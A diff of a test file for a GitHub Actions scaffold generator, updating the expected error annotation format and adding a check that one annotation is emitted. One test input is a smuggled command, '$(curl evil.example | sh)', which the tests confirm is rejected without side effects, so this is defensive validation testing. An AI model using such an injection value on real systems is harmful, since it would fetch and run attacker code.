@@ -327,8 +327,9 @@ describe('workflow_dispatch', () => {
     });
     expect(run.code).toBe(1);
     expect(run.stdout).toMatch(
-      /::error title=The request needs a fix::branch scaffold\/orders-api has 1 commit\(s\) not made by the generator \([0-9a-f]{12} "Add my notes" by Jane Doe <jane@example.com>\)/,
+      /::error::branch scaffold\/orders-api has 1 commit\(s\) not made by the generator \([0-9a-f]{12} "Add my notes" by Jane Doe <jane@example.com>\)/,
     );
+    expect(run.stdout.match(/^::error/gm), 'one annotation, not one per layer').toHaveLength(1);
     expect(run.summary).toContain('The generator will not overwrite them');
     expect(remoteBranch('scaffold/orders-api')).toBe(before);
     expect(github.state.pulls[0]!.body).toBe(bodyBefore);
@@ -343,7 +344,7 @@ describe('workflow_dispatch', () => {
     });
     expect(run.code).toBe(1);
     expect(run.stdout).toContain(
-      '::error title=The request needs a fix::name "$(curl evil.example | sh)" must start with a letter',
+      '::error::name "$(curl evil.example | sh)" must start with a letter',
     );
     expect(sh(remote, 'for-each-ref', '--format=%(refname)')).toBe(`refs/heads/${BASE}`);
     expect(github.calls.filter((call) => call.method !== 'GET')).toEqual([]);
